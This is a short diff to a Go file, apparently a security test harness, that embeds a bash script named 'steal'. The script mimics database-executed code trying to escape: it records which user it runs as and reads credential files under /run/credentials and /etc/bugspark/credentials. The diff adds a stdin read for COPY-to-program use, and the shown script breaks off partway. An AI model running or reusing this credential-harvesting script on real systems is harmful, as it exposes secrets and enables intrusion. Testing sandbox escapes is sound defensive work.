@@ -8,6 +8,7 @@ import (
 // steal is what code of a database does that wants to leave: it notes who it is, and looks
 // for keys and a network. It writes wherever an account of ours may write.
 const steal = `#!/bin/bash
+read -r -t 1 row # COPY fails where its program ends before it has read
 for at in scratch backup postgres; do
 	{ echo "$1 runs as $(id -un)"
 	  cat /run/credentials/*/* /etc/bugspark/credentials/* && echo KEYS
